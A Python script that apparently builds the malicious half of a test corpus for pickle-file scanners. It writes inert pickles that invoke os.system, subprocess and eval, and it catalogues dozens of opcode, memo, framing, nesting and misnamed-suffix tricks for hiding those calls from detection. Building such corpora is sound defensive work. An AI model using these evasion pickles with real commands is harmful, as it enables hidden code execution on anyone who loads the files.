"""Makes the malicious half of the corpus: inert files in every format and by every way around scanners that is known.

    python malicious.py FOLDER

Needs what requirements.txt names. Each file is named CLASS/NAME. Nothing is loaded.
"""

from __future__ import annotations

import json
import struct
import sys
from collections.abc import Callable
from pathlib import Path

import opcodes as op
from archives import make_archives
from gadgets import KNOWN, TRUE, UNPUBLISHED
from graphs import make_graphs
from weights import make_weights

PAYLOAD = op.call("os", "system", TRUE)


class Corpus:
    """Where files are written."""

    def __init__(self, folder: Path) -> None:
        """Begin an empty one."""
        self.folder = folder
        self.count = 0

    def add(self, kind: str, name: str, data: bytes | str) -> None:
        """Write a file of a class."""
        path = self.folder / kind / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.exists():
            raise ValueError(path)
        path.write_bytes(data if isinstance(data, bytes) else data.encode())
        self.count += 1


def make_gadgets(corpus: Corpus) -> None:
    """Raw pickles of all protocols, by what they import."""
    for kind, gadgets in (("gadgets, known", KNOWN), ("gadgets, unpublished", UNPUBLISHED)):
        for number, (module, name, arguments) in enumerate(gadgets):
            protocol = number % 6
            corpus.add(kind, f"{number:02}-{module}.{name}.pkl", op.call(module, name, *arguments, protocol=protocol))
    for protocol in range(6):
        corpus.add(
            "gadgets, known", f"system-protocol-{protocol}.pkl", op.call("os", "system", TRUE, protocol=protocol)
        )
    corpus.add("gadgets, known", "text-alone.pkl", op.old("os", "system", TRUE))


def make_tricks(corpus: Corpus) -> None:
    """Raw pickles that hide what they import, or when it is called."""
    arguments = op.pushed((TRUE,))
    imported = op.named("os", "system")
    called = arguments + b"R."

    def trick(name: str, body: bytes, protocol: int = 4) -> None:
        corpus.add("opcode tricks", name + ".pkl", op.proto(protocol) + body)

    trick("stack-global", op.stacked("os", "system") + called)
    trick("stack-global-wide", op.wide("os") + op.wide("system") + b"\x93" + called)
    trick("stack-global-widest", op.widest("os") + op.widest("system") + b"\x93" + called)
    trick("stack-global-lines", op.line("os") + op.line("system") + b"\x93" + called)
    trick("stack-global-bytes", b"U\x02osU\x06system\x93" + called)
    trick("stack-global-quoted", b"S'os'\nS'system'\n\x93" + called)
    trick("stack-global-popped", op.short("os") + op.short("x") + b"0" + op.short("system") + b"\x93" + called)
    trick("stack-global-marked", op.short("os") + b"(" + op.short("x") + b"1" + op.short("system") + b"\x93" + called)
    trick("stack-global-twice", op.short("os") + b"20" + op.short("system") + b"\x93" + called)
    trick("stack-global-dotted", op.short("os") + op.short("path.os.system") + b"\x93" + called)
    trick("stack-global-remembered", op.short("os") + b"q\x010" + op.short("system") + b"q\x020h\x01h\x02\x93" + called)
    trick(
        "stack-global-recalled-wide",
        op.short("os")
        + b"r\x01\0\0\x000"
        + op.short("system")
        + b"r\x02\0\0\x000"
        + b"j\x01\0\0\0j\x02\0\0\0\x93"
        + called,
    )
    trick("stack-global-recalled-lines", b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0g2\ng3\n\x93" + called, 0)
    trick(
        "memo-given-twice",
        op.short("collections")
        + b"q\x00"
        + b"0"
        + op.short("os")
        + b"q\x000"
        + b"h\x00"
        + op.short("system")
        + b"\x93"
        + called,
    )
    trick(
        "memo-memoize-twice",
        op.short("torch") + b"\x940" + op.short("os") + b"q\x000h\x00" + op.short("system") + b"\x93" + called,
    )
    trick("memo-of-function", imported + b"q\x050h\x05" + called)
    trick("memo-of-tuple", op.pushed(("os", "system")) + b"q\x010" + imported + b"q\x020h\x02" + called)
    trick("instance", b"(" + op.pushed(TRUE) + b"ios\nsystem\n.", 0)
    trick("object", b"(" + imported + op.pushed(TRUE) + b"o.", 1)
    trick("object-of-stack-global", b"(" + op.short("os") + op.short("system") + b"\x93" + op.pushed(TRUE) + b"o.")
    trick("new-object", imported + arguments + b"\x81.", 2)
    trick("new-object-with-names", op.named("subprocess", "Popen") + arguments + b"}\x92.")
    trick("set-state", op.named("collections", "OrderedDict") + b")R}" + op.pushed("x") + imported + b"sb.")
    trick(
        "set-state-slots",
        op.named("collections", "OrderedDict")
        + b")R"
        + b"N}"
        + op.pushed("__class__")
        + op.named("bdb", "Bdb")
        + b"s\x86b.",
    )
    trick(
        "set-state-calls",
        op.named("code", "InteractiveInterpreter")
        + b")R"
        + op.named("builtins", "setattr")
        + op.pushed(("x", "__setstate__"))
        + b"R0"
        + op.pushed("1")
        + b"b.",
    )
    trick("append-calls", op.named("collections", "deque") + b")R" + op.named("builtins", "eval") + b"a.")
    trick("set-item-calls", op.named("os", "environ") + op.pushed("X") + op.pushed("1") + b"s.")
    trick("extension-1", b"\x82\x01" + called)
    trick("extension-2", b"\x83\x01\x00" + called)
    trick("extension-4", b"\x84\x01\x00\x00\x00" + called)
    trick(
        "extension-registered",
        op.named("copyreg", "add_extension") + op.pushed(("os", "system", 240)) + b"R0" + b"\x82\xf0" + called,
    )
    _more_tricks(trick, imported, arguments)


def _more_tricks(trick: Callable[..., None], imported: bytes, arguments: bytes) -> None:
    called = arguments + b"R."
    trick("persistent", op.pushed(("storage", TRUE)) + b"Q0" + imported + called)
    trick("persistent-line", b"Pstorage\n0" + imported + called, 0)
    trick("partial", op.named("functools", "partial") + op.pushed(()) + b"0(" + imported + op.pushed(TRUE) + b"tR)R.")
    trick(
        "map",
        op.named("builtins", "list") + op.named("builtins", "map") + b"(" + imported + op.pushed([TRUE]) + b"tR\x85R.",
    )
    trick(
        "attribute-of-module",
        op.named("builtins", "getattr")
        + op.named("builtins", "__import__")
        + op.pushed(("os",))
        + b"R"
        + op.pushed("system")
        + b"\x86R"
        + called,
    )
    trick("sub-class-of-none", op.named("builtins", "object.__subclasses__") + b")R.")
    trick("globals-of-function", op.named("collections", "namedtuple.__globals__") + b".")
    trick("protocol-in-the-middle", op.pushed(1) + b"0\x80\x02" + imported + called, 2)
    trick("protocol-twice", b"\x80\x04\x80\x02" + imported + called)
    trick("frame-across", b"\x95" + struct.pack("<Q", 4) + imported + called)
    trick("frame-of-nothing", b"\x95" + struct.pack("<Q", 0) + imported + called)
    trick("frame-in-frame", op.frame(op.frame(imported + called)))
    trick("long-text-before", op.wide("x" * 70_000) + b"0" + imported + called)
    trick("long-bytes-before", op.pushed(b"." * 300_000) + b"0" + imported + called)
    trick("many-opcodes-before", b"N0" * 200_000 + imported + called)
    trick("text-of-opcodes-before", op.short(b"cos\nx\n.") + b"0" + imported + called)
    trick("names-in-bytes-of-utf8", op.named("os", "system") + b"0" + op.short("os") + b"\x940" + imported + called)
    trick(
        "hidden-in-list-of-state", op.pushed({"weights": [1, 2, 3]}) + op.pushed("k") + imported + called[:-1] + b"s."
    )
    trick("dict-key", b"}" + imported + called[:-1] + op.pushed(1) + b"s.")
    trick("set-of-calls", b"\x8f(" + imported + called[:-1] + b"\x90.")
    trick("next-buffer", imported + called[:-1] + b"0\x97.", 5)
    trick("byte-array", b"\x96" + struct.pack("<Q", 4) + b"abcd0" + imported + called, 5)


def make_streams(corpus: Corpus) -> None:
    """Raw pickles that break off, or that follow something else; and pickles inside of plain ones."""
    import base64

    plain = op.proto(2) + op.pushed({"weights": [1, 2, 3]}) + b"."

    def stream(name: str, data: bytes) -> None:
        corpus.add("streams", name, data)

    for protocol in range(6):
        whole = op.call("os", "system", TRUE, protocol=protocol)
        stream(f"cut-after-call-{protocol}.pkl", whole[:-1] if protocol < 4 else op.proto(4) + whole[11:-1])
    stream("broken-after-call.pkl", PAYLOAD[:-1] + b"\xff\xfe\xfd" * 9)
    stream("endless-text-after-call.pkl", PAYLOAD[:-1] + b"X\xff\xff\xff\x7f")
    stream("second.pkl", plain + PAYLOAD)
    stream("third.pkl", plain + plain + PAYLOAD)
    stream("second-without-protocol.pkl", plain + op.old("os", "system", TRUE))
    stream("second-after-zeros.pkl", plain + b"\0" * 64 + PAYLOAD)
    stream("second-cut.pkl", plain + PAYLOAD[:-1])
    stream("line-break-after.pkl", b"Vos\np2\n0Vsystem\np3\n0g2\ng3\n\x93(Vtrue\ntR.\n\n\t\t")
    stream("inner-bytes.pkl", op.proto(3) + op.pushed({"weights": PAYLOAD}) + b".")
    stream("inner-bytes-long.pkl", op.proto(3) + op.pushed({"weights": PAYLOAD + b"\0" * 5000}) + b".")
    stream("inner-base64.pkl", op.proto(2) + op.pushed({"weights": base64.b64encode(PAYLOAD).decode()}) + b".")
    stream(
        "inner-base64-4.pkl",
        op.proto(4) + op.frame(op.short(base64.b64encode(op.call("os", "system", TRUE, protocol=4))) + b"."),
    )
    stream("inner-hex.pkl", op.proto(2) + op.pushed([PAYLOAD.hex()]) + b".")
    stream("inner-twice.pkl", op.proto(3) + op.pushed(op.proto(3) + op.pushed(PAYLOAD) + b".") + b".")
    for suffix in ("safetensors", "txt", "jpg", "onnx", "json", "npy", "h5", "gguf", "tflite", "csv", "pb", "md"):
        stream(f"misnamed.{suffix}", PAYLOAD)
    stream("no-suffix", PAYLOAD)
    stream("misnamed-of-text.txt", op.old("os", "system", TRUE))
    stream("misnamed-of-text.bin", op.old("subprocess", "getoutput", TRUE))


def main() -> None:
    """Write all of it."""
    corpus = Corpus(Path(sys.argv[1]))
    for make in (make_gadgets, make_tricks, make_streams, make_archives, make_graphs, make_weights):
        make(corpus)
    print(json.dumps(corpus.count))


if __name__ == "__main__":
    main()
